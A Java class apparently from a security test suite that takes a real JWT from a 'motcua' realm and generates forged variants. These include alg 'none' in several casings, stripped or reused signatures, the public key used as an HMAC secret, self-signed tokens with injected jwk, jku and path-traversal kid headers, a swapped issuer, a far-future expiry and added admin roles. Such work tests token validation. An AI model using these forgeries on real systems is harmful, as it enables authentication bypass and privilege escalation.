package vn.motcua.attacks.session;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** Makes tokens that look like a real one. */
final class Forger {

    private static final Base64.Encoder URL = Base64.getUrlEncoder().withoutPadding();

    private final String header;
    private final String payload;
    private final String signature;
    private final KeyPair own;

    Forger(String real) {
        var parts = real.split("\\.");
        header = new String(Base64.getUrlDecoder().decode(parts[0]), UTF_8);
        payload = new String(Base64.getUrlDecoder().decode(parts[1]), UTF_8);
        signature = parts[2];
        try {
            var generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            own = generator.generateKeyPair();
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** @param published the realm's own public key, in PEM and in DER */
    Map<String, String> forgeries(String pem, byte[] der) {
        var admin = payload.replace("\"officer\"", "\"officer\",\"admin\",\"service\"");
        var forged = new LinkedHashMap<String, String>();
        for (var none : new String[] { "none", "None", "NONE", "nOnE" }) {
            forged.put("alg " + none, join(alg(none), admin, ""));
        }
        forged.put("no signature", join(header, admin, ""));
        forged.put("changed payload, old signature", join(header, admin, signature));
        forged.put("changed header, old signature", join(header.replace("\"kid\"", "\"x\":1,\"kid\""), payload, signature));
        forged.put("public key as shared secret (PEM)", hmac(admin, pem.getBytes(UTF_8)));
        forged.put("public key as shared secret (DER)", hmac(admin, der));
        forged.put("empty shared secret", hmac(admin, new byte[] { 0 }));
        forged.put("a key of one's own under the realm's name", signed(header, admin));
        forged.put("a key of one's own in the header",
                signed(header.replace("\"kid\"", "\"jwk\":" + jwk() + ",\"kid\""), admin));
        forged.put("a key at an address of one's own",
                signed(header.replace("\"kid\"", "\"jku\":\"http://127.0.0.1:9/keys\",\"kid\""), admin));
        forged.put("a key in a file",
                signed(header.replaceFirst("\"kid\" ?: ?\"[^\"]*\"", "\"kid\":\"../../../../dev/null\""), admin));
        forged.put("another issuer", signed(header, payload.replace("/realms/motcua", "/realms/vneid")));
        forged.put("a far future", signed(header, payload.replaceFirst("\"exp\":\\d+", "\"exp\":9999999999")));
        forged.put("no token at all", "null");
        forged.put("a token of dots", "..");
        return forged;
    }

    private String alg(String name) {
        return header.replaceFirst("\"alg\" ?: ?\"[^\"]*\"", "\"alg\":\"" + name + "\"");
    }

    private String hmac(String payload, byte[] secret) {
        try {
            var mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            var text = encoded(alg("HS256")) + "." + encoded(payload);
            return text + "." + URL.encodeToString(mac.doFinal(text.getBytes(UTF_8)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String signed(String header, String payload) {
        try {
            var sign = Signature.getInstance("SHA256withRSA");
            sign.initSign(own.getPrivate());
            var text = encoded(header) + "." + encoded(payload);
            sign.update(text.getBytes(UTF_8));
            return text + "." + URL.encodeToString(sign.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private String jwk() {
        var key = (RSAPublicKey) own.getPublic();
        return "{\"kty\":\"RSA\",\"n\":\"%s\",\"e\":\"%s\"}".formatted(URL.encodeToString(key.getModulus().toByteArray()),
                URL.encodeToString(key.getPublicExponent().toByteArray()));
    }

    private static String join(String header, String payload, String signature) {
        return encoded(header) + "." + encoded(payload) + "." + signature;
    }

    private static String encoded(String text) {
        return URL.encodeToString(text.getBytes(UTF_8));
    }
}
